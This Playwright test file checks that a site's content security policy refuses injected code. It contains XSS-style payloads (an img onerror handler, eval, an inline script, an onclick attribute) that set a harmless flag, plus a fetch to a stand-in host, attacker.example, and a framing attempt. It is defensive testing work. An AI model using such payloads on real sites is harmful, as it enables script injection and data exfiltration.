import type { Page } from '@playwright/test';
import { expect, test } from '../fixtures/test.ts';

/** What an attacker would try who got as far as running code in the page, or writing markup into it. */
const ATTACKS: Readonly<Record<string, () => void>> = {
  'markup from text': () => {
    document.body.innerHTML = '<img src="x" onerror="window.__attacked = true">';
  },
  'code from text': () => {
    // Not at once: code that the debugger runs itself may do so.
    setTimeout(() => (0, eval)('window.__attacked = true'));
  },
  'an inline script': () => {
    const script = document.createElement('script');
    script.append('window.__attacked = true');
    document.body.append(script);
  },
  'an event handler in an attribute': () => {
    document.body.setAttribute('onclick', 'window.__attacked = true');
    document.body.click();
  },
  'a policy for trusted types of its own': () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };
    trustedTypes.createPolicy('attack', { createHTML: (html: string) => html });
    Object.assign(window, { __attacked: true });
  },
};

for (const [name, attack] of Object.entries(ATTACKS)) {
  test(`${name} is refused`, async ({ page, guard }) => {
    guard.expect(/content security policy|^console|^thrown/);
    await page.goto('/');

    await page.evaluate(attack).catch(() => {});

    await expect.poll(() => guard.seen.length).toBeGreaterThan(0);
    expect(await wasAttacked(page)).toBe(false);
  });
}

test('nothing is sent to another origin', async ({ page, guard }) => {
  guard.expect(/content security policy: connect-src|^console|another origin/);
  await page.goto('/');

  const sent = await page.evaluate(() =>
    fetch('https://attacker.example/').then(
      () => 'sent',
      () => 'refused',
    ),
  );

  expect(sent).toBe('refused');
  await expect.poll(() => guard.seen.join()).toContain('connect-src');
});

test('no other site can frame a page', async ({ page, baseURL, guard }) => {
  guard.expect(/^console: .*frame-ancestors|^asked another origin: https:..attacker/);
  await page.route('https://attacker.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${baseURL}/"></iframe>` }),
  );
  await page.goto('https://attacker.example/');

  await expect
    .poll(() => page.frames().map((frame) => frame.url()))
    .toContainEqual(expect.stringMatching(/^chrome-error:/));
});

function wasAttacked(page: Page): Promise<boolean> {
  return page.evaluate(() => '__attacked' in window);
}
